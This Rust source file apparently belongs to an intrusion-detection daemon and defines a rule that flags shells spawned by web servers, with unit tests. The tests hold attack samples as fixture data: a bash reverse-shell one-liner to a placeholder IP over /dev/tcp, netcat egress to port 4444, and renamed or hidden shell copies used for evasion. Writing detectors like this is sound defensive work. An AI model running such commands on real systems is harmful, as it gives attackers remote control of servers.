//! `webserver_shell`: an exec of a shell under a web server: a descendant of one at any depth,
//! or a web server that replaced itself with the shell (`execv("/bin/sh")`). php-fpm's
//! `system()` runs `sh -c -- <cmd>`; the alert carries that argv as executed.
//!
//! Section `[rules.webserver_shell]`: only `enabled`, `severity` and `exceptions` (`exe`: the
//! shell, `argv_prefix`, `ancestor_exe`). What a shell is comes from the policy's `shells`.

use super::{Finding, Rule, common_section, exe_key};
use crate::{
    enrich::Context,
    matcher::{RuleSettings, Subject},
    record::{EventType, MatchKind, RuleId},
};

#[derive(Clone, Debug, PartialEq)]
pub struct WebserverShell {
    pub settings: RuleSettings,
}

impl Rule for WebserverShell {
    fn id(&self) -> RuleId {
        RuleId::WebserverShell
    }

    fn judges(&self) -> &'static [EventType] {
        &[EventType::Exec]
    }

    fn settings(&self) -> &RuleSettings {
        &self.settings
    }

    fn judge<'e>(&self, ctx: &Context<'e>) -> Option<Finding<'e>> {
        let event = ctx.event;
        let shell = ctx.shell()?;
        // Not the current program (at exec time the process already is the shell), but a
        // program it replaced, or an ancestor; with no web server in the lineage, a web
        // server's user running it.
        let web_server = ctx.web_server_above()?;
        let mut shell_name = match shell.applet {
            Some(applet) => format!("{} ({applet})", shell.exe),
            None => shell.exe.to_owned(),
        };
        match (shell.matched, shell.same_as) {
            (MatchKind::Loader, _) => {
                shell_name = format!("{shell_name} via {}", exe_key(event.process.exe.as_deref()));
            }
            (MatchKind::Inode | MatchKind::Content, Some(same_as)) => {
                shell_name = format!("{shell_name} = {same_as}");
            }
            _ => {}
        }
        // Every command is the incident: the key names the whole command line, so a second,
        // different command alerts and only an exact repeat is counted.
        let command = serde_json::to_string(&event.process.argv).unwrap_or_default();
        Some(Finding {
            title: format!(
                "Shell spawned by web server: {shell_name} ({})",
                web_server.relation()
            ),
            dedup: format!(
                "webserver_shell:{}:{}:{command}",
                web_server.key(),
                shell.exe
            ),
            subject: Subject {
                exe: Some(shell.exe),
                argv: &event.process.argv,
                ancestry: &event.ancestry,
                destination: None,
                port: None,
            },
            shell_match: Some(shell.matched),
            web_server_via: Some(web_server.via),
        })
    }
}

common_section!(WebserverShell, port: false, destination: false);

#[cfg(test)]
mod tests {
    use crate::{
        record::{EventType, MatchKind, ProgramIdentity, RuleId, Severity, WebServerVia},
        testing::{
            T0, ancestor, connect, detector, detector_with, event, fpm_master, fpm_worker, process,
            systemd, tracked,
        },
    };

    #[test]
    fn shell_from_php_fpm_shows_sh_c_argv() {
        let mut d = detector();
        let mut ev = event(
            EventType::Exec,
            T0,
            process(4100, "/usr/bin/dash", "sh", &["sh", "-c", "--", "id"]),
            vec![fpm_worker(), fpm_master(), systemd()],
        );
        ev.filename = Some("/bin/sh".to_owned());
        let alerts = d.on_event(&ev, 0);
        assert_eq!(alerts.len(), 1);
        let a = &alerts[0];
        assert_eq!(
            (a.rule, a.severity),
            (RuleId::WebserverShell, Severity::High)
        );
        assert_eq!(
            a.title,
            "Shell spawned by web server: /usr/bin/dash (parent php-fpm8.2)"
        );
        assert_eq!(
            a.dedup,
            r#"webserver_shell:/usr/sbin/php-fpm8.2:/usr/bin/dash:["sh","-c","--","id"]"#
        );
        assert_eq!(a.shell_match, Some(MatchKind::Path));
        assert_eq!(a.web_server_via, Some(WebServerVia::Lineage));
        assert_eq!(a.process.argv, ["sh", "-c", "--", "id"]);
        assert_eq!(a.ancestry[0].exe.as_deref(), Some("/usr/sbin/php-fpm8.2"));
        assert_eq!(a.filename.as_deref(), Some("/bin/sh"));
    }

    #[test]
    fn shell_deeper_under_web_server_and_guards() {
        let mut d = detector();
        // nginx → perl → bash: the web server is a grandparent.
        let perl = ancestor(5000, "/usr/bin/perl", "perl", &["perl", "cgi.pl"]);
        let nginx = ancestor(800, "/usr/sbin/nginx", "nginx", &["nginx: worker process"]);
        let ev = event(
            EventType::Exec,
            T0,
            process(5001, "/usr/bin/bash", "bash", &["bash", "-i"]),
            vec![perl, nginx, systemd()],
        );
        let alerts = d.on_event(&ev, 0);
        assert_eq!(alerts.len(), 1);
        assert_eq!(
            alerts[0].title,
            "Shell spawned by web server: /usr/bin/bash (ancestor nginx)"
        );

        // A shell from a login shell: no web server anywhere.
        let sshd = ancestor(600, "/usr/sbin/sshd", "sshd", &["sshd: admin [priv]"]);
        let login = ancestor(610, "/usr/bin/bash", "bash", &["-bash"]);
        let ev = event(
            EventType::Exec,
            T0,
            process(620, "/usr/bin/dash", "sh", &["sh"]),
            vec![login, sshd, systemd()],
        );
        assert!(d.on_event(&ev, 0).is_empty());

        // A python process renamed to "nginx" spawns a shell: comm makes no web server.
        let fake = ancestor(
            630,
            "/usr/bin/python3.11",
            "nginx",
            &["nginx: master process"],
        );
        let ev = event(
            EventType::Exec,
            T0,
            process(631, "/usr/bin/dash", "sh", &["sh", "-c", "id"]),
            vec![fake.clone(), systemd()],
        );
        assert!(d.on_event(&ev, 0).is_empty());
        // …and its connection to an odd port raises no egress alert either.
        let ev = connect(
            T0,
            process(630, "/usr/bin/python3.11", "nginx", &["nginx"]),
            vec![systemd()],
            "93.184.216.34",
            4444,
        );
        assert!(d.on_event(&ev, 0).is_empty());

        // php-fpm running a non-shell program: not this rule.
        let ev = event(
            EventType::Exec,
            T0,
            process(640, "/usr/bin/convert", "convert", &["convert"]),
            vec![fpm_worker(), fpm_master()],
        );
        assert!(d.on_event(&ev, 0).is_empty());
    }

    #[test]
    fn tracked_web_server_beyond_the_recorded_ancestry() {
        let mut d = detector();
        // Double fork: the shell's recorded ancestry is only init, the table kept php-fpm.
        let mut ev = event(
            EventType::Exec,
            T0,
            process(300, "/usr/bin/dash", "sh", &["sh", "-i"]),
            vec![systemd()],
        );
        ev.web_server = Some(tracked(
            200,
            "/usr/sbin/php-fpm8.2",
            None,
            &["php-fpm: pool www"],
        ));
        let alerts = d.on_event(&ev, 0);
        assert_eq!(alerts.len(), 1);
        assert_eq!(
            alerts[0].title,
            "Shell spawned by web server: /usr/bin/dash (ancestor php-fpm8.2)"
        );
        assert_eq!(
            alerts[0].web_server.as_ref().map(|w| w.pid),
            Some(200),
            "carried onto the alert"
        );
        // Its connection out, 36 s later, 18 generations down: same verdict.
        let mut ev = connect(
            T0,
            process(400, "/usr/bin/nc.openbsd", "nc", &["nc"]),
            vec![systemd()],
            "93.184.216.34",
            4444,
        );
        ev.web_server = Some(tracked(200, "/usr/sbin/php-fpm8.2", None, &[]));
        let alerts = d.on_event(&ev, 0);
        assert_eq!(
            alerts[0].title,
            "Web server egress: /usr/bin/nc.openbsd -> 93.184.216.34:4444 (descendant of php-fpm8.2)"
        );
        assert_eq!(
            alerts[0].dedup,
            "webserver_egress:/usr/sbin/php-fpm8.2:/usr/bin/nc.openbsd:93.184.216.34:4444"
        );
    }

    #[test]
    fn web_server_replaced_by_exec_in_place() {
        let mut d = detector();
        let mut ev = event(
            EventType::Exec,
            T0,
            process(200, "/usr/bin/dash", "sh", &["sh", "-i"]),
            vec![systemd()],
        );
        ev.filename = Some("/bin/sh".to_owned());
        ev.web_server = Some(tracked(
            200,
            "/usr/sbin/php-fpm8.2",
            Some("/usr/sbin/php-fpm8.2"),
            &["php-fpm8.2"],
        ));
        let alerts = d.on_event(&ev, 0);
        assert_eq!(
            alerts[0].title,
            "Shell spawned by web server: /usr/bin/dash (in place of php-fpm8.2)"
        );
        let mut ev = connect(
            T0,
            process(200, "/usr/bin/dash", "sh", &["sh", "-i"]),
            vec![systemd()],
            "93.184.216.34",
            4444,
        );
        ev.web_server = Some(tracked(200, "/usr/sbin/php-fpm8.2", None, &["php-fpm8.2"]));
        assert_eq!(
            d.on_event(&ev, 0)[0].title,
            "Web server egress: /usr/bin/dash -> 93.184.216.34:4444 (in place of php-fpm8.2)"
        );
        // A shell the policy itself calls a web server is not "under" itself.
        let mut d = detector_with("web_servers = [\"dash\"]\n");
        let mut ev = event(
            EventType::Exec,
            T0,
            process(210, "/usr/bin/dash", "sh", &["sh"]),
            vec![systemd()],
        );
        ev.filename = Some("/bin/sh".to_owned());
        ev.web_server = Some(tracked(210, "/usr/bin/dash", Some("/bin/sh"), &["sh"]));
        assert!(d.on_event(&ev, 0).is_empty());
    }

    fn shell_exec(pid: u32, exe: &str, argv: &[&str]) -> crate::record::EventRecord {
        event(
            EventType::Exec,
            T0,
            process(pid, exe, "x", argv),
            vec![fpm_worker(), fpm_master(), systemd()],
        )
    }

    #[test]
    fn shells_known_by_content_inode_and_loader() {
        let mut d = detector();
        // A copy of bash named /tmp/.x: the daemon recorded its content match.
        let mut ev = shell_exec(7000, "/tmp/.x", &["/tmp/.x", "-c", "id"]);
        assert!(
            d.on_event(&ev, 0).is_empty(),
            "by path alone it is no shell"
        );
        ev.program = Some(ProgramIdentity {
            shell: Some(MatchKind::Content),
            same_as: Some("/usr/bin/bash".to_owned()),
            ..ProgramIdentity::default()
        });
        let a = &d.on_event(&ev, 0)[0];
        assert_eq!(
            a.title,
            "Shell spawned by web server: /tmp/.x = /usr/bin/bash (parent php-fpm8.2)"
        );
        assert_eq!(a.shell_match, Some(MatchKind::Content));
        assert_eq!(a.program.as_ref().unwrap().shell, Some(MatchKind::Content));

        // A memfd copy, by inode.
        let mut ev = shell_exec(7001, "/memfd:x (deleted)", &["sh", "-c", "id"]);
        ev.program = Some(ProgramIdentity {
            shell: Some(MatchKind::Inode),
            same_as: Some("/usr/bin/dash".to_owned()),
            ..ProgramIdentity::default()
        });
        assert_eq!(d.on_event(&ev, 0)[0].shell_match, Some(MatchKind::Inode));

        // The loader running bash: judged from argv even without a recorded verdict.
        let ev = shell_exec(
            7002,
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            &["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-c", "id"],
        );
        let a = &d.on_event(&ev, 0)[0];
        assert_eq!(a.shell_match, Some(MatchKind::Loader));
        assert_eq!(
            a.title,
            "Shell spawned by web server: /bin/bash via /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 (parent php-fpm8.2)"
        );
        // The loader running something else is not a shell.
        let ev = shell_exec(
            7003,
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            &["ld.so", "/usr/bin/id"],
        );
        assert!(d.on_event(&ev, 0).is_empty());
    }

    #[test]
    fn every_command_alerts_and_repeats_are_counted() {
        let mut d = detector();
        let id = shell_exec(7100, "/usr/bin/dash", &["sh", "-c", "id"]);
        let rev = shell_exec(
            7101,
            "/usr/bin/dash",
            &["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
        );
        assert_eq!(d.on_event(&id, 0).len(), 1);
        assert_eq!(
            d.on_event(&rev, 0).len(),
            1,
            "a different command is an alert"
        );
        assert!(d.on_event(&id, 0).is_empty(), "the same command is counted");
        let mut later = shell_exec(7102, "/usr/bin/dash", &["sh", "-c", "id"]);
        later.time = "2026-11-23T06:00:01.000000000Z".to_owned();
        let a = d.on_event(&later, 0);
        assert_eq!(a[0].suppressed, 1);
    }

    #[test]
    fn web_server_users_without_lineage() {
        let mut d = detector();
        // An orphaned backdoor's shell: no web server in its lineage, but it runs as www-data.
        let mut p = process(7200, "/usr/bin/dash", "sh", &["sh", "-c", "id"]);
        p.uid = 33;
        p.user = Some("www-data".to_owned());
        let ev = event(EventType::Exec, T0, p.clone(), vec![systemd()]);
        let a = &d.on_event(&ev, 0)[0];
        assert_eq!(
            a.title,
            "Shell spawned by web server: /usr/bin/dash (as www-data)"
        );
        assert_eq!(a.web_server_via, Some(WebServerVia::User));
        assert!(
            a.dedup
                .starts_with("webserver_shell:user:www-data:/usr/bin/dash:")
        );
        // Another user: nothing.
        p.user = Some("alice".to_owned());
        let ev = event(EventType::Exec, T0, p, vec![systemd()]);
        assert!(d.on_event(&ev, 0).is_empty());
        // Exceptions as usual, and the list is the policy's.
        let mut d = detector_with("web_server_users = []\n");
        let mut p = process(7201, "/usr/bin/dash", "sh", &["sh"]);
        p.user = Some("www-data".to_owned());
        assert!(
            d.on_event(&event(EventType::Exec, T0, p, vec![systemd()]), 0)
                .is_empty()
        );
    }
}
